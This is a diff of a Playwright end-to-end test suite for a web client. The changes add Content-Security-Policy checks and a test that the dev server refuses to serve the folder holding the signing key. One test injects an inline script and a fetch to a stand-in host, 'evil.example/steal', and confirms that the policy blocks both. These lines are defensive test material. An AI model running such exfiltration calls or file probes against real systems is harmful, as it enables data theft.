@@ -4,6 +4,8 @@
  * exercised for real on the token endpoint, the API and the bucket alike. The AWS sign-in (code +
  * PKCE on Cognito's hosted UI) runs against a mocked Cognito (./mocked-cognito.ts).
  */
+import { existsSync } from "node:fs";
+import { mkdir, rm, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import type { Browser, Page } from "playwright-core";
 import type { ViteDevServer } from "vite";
@@ -20,6 +22,8 @@ import {
   focusVisible,
   gradientPng,
   launchChromium,
+  openPage,
+  policyViolations,
   screenshot,
   startWeb,
   tabTo,
@@ -68,12 +72,9 @@ afterAll(async () => {
   await web?.server.close();
 });
 
-/** A fresh tab of its own (own sessionStorage), at 1280×900. */
-async function newPage(): Promise<Page> {
-  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
-  const page = await context.newPage();
-  await page.goto(web.url);
-  return page;
+/** A fresh tab of its own (own sessionStorage) on the web client, at 1280×900. */
+function newPage(): Promise<Page> {
+  return openPage(browser, web.url);
 }
 
 async function signIn(page: Page, name: string): Promise<void> {
@@ -190,6 +191,8 @@ describe("the web client", () => {
 
     await expectAccessible(page, "main");
     await screenshot(page, "3-main");
+    // All of it (API, token, S3 uploads, the avatar's redirect) within the page's CSP.
+    expect(await policyViolations(page)).toEqual([]);
   });
 
   it("refuses a stale edit from a second tab with a clear message, and Reload brings the other tab's change", async () => {
@@ -316,9 +319,7 @@ describe("signing in on AWS, against a mocked Cognito", () => {
   });
 
   it("goes through the hosted UI with code + PKCE, keeps the tokens in sessionStorage only, and calls the API with them", async () => {
-    const context = await browser.newContext();
-    const page = await context.newPage();
-    await page.goto(oidcWeb.url);
+    const page = await openPage(browser, oidcWeb.url);
     await page.getByRole("button", { name: "Sign in" }).click();
     // Back from the mocked hosted UI, signed in: the API knows no profile for this sub yet.
     await page.getByRole("heading", { name: "Create your profile" }).waitFor();
@@ -330,6 +331,7 @@ describe("signing in on AWS, against a mocked Cognito", () => {
       local: Object.keys(localStorage),
     }));
     expect(stored).toEqual({ session: ["portico.session"], local: [] });
+    expect(await policyViolations(page)).toEqual([]);
   });
 
   it("refuses a callback whose state this tab did not make, without exchanging its code", async () => {
@@ -350,14 +352,25 @@ describe("the web client's dev server, as another page on this machine sees it",
 
   it("serves the client's own code, and no other file of the repository", async () => {
     expect((await read("src/client/index.ts")).status).toBe(200);
-    for (const path of [
-      "package.json",
-      ".git/config",
-      "src/local/dev/local-state.ts",
-      join(defaultDataDir, "keys/token-issuer.json"),
-    ]) {
+    for (const path of ["package.json", ".git/config", "src/local/dev/local-state.ts"]) {
       const response = await read(path);
       expect({ path, status: response.status }).toEqual({ path, status: 403 });
+    }
+  });
+
+  it("serves nothing of the local data folder, where the issuer's signing key is", async () => {
+    // A file of its own there (a clean clone has no data folder yet; a developer's is left as it was).
+    const dataDir = join(repository, defaultDataDir);
+    const made = !existsSync(dataDir);
+    const probe = join(defaultDataDir, `probe-${process.pid}.json`);
+    await mkdir(dataDir, { recursive: true, mode: 0o700 });
+    await writeFile(join(repository, probe), '{"secret":true}');
+    try {
+      const response = await read(probe);
+      expect(response.status).toBe(403);
+      expect(await response.text()).not.toContain("secret");
+    } finally {
+      await rm(made ? dataDir : join(repository, probe), { recursive: true, force: true });
     }
   });
 
@@ -384,6 +397,32 @@ describe("the web client's dev server, as another page on this machine sees it",
         allowed: null,
       });
     }
+  });
+
+  it("puts a Content-Security-Policy in the page that runs no injected script and reaches no other host", async () => {
+    const page = await newPage();
+    const complaints: string[] = [];
+    page.on("console", (message) => {
+      if (message.text().includes("Content Security Policy")) complaints.push(message.text());
+    });
+    await page.reload();
+    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
+    expect(policy).toContain("script-src 'self';");
+    const ran = await page.evaluate(async () => {
+      const script = document.createElement("script");
+      script.textContent = "window.injected = true";
+      document.body.append(script);
+      await fetch("https://evil.example/steal").catch(() => undefined);
+      return (window as unknown as { injected?: boolean }).injected === true;
+    });
+    expect(ran).toBe(false);
+    await eventually(() => policyViolations(page)).toEqual([
+      "script-src-elem inline",
+      "connect-src https://evil.example/steal",
+    ]);
+    // The browser took every source of the policy (it ignores one it cannot parse, and says so).
+    expect(complaints.filter((text) => text.includes("invalid source"))).toEqual([]);
+    await page.context().close();
   });
 
   it("answers no CORS, so a page on another localhost port cannot read what it serves", async () => {
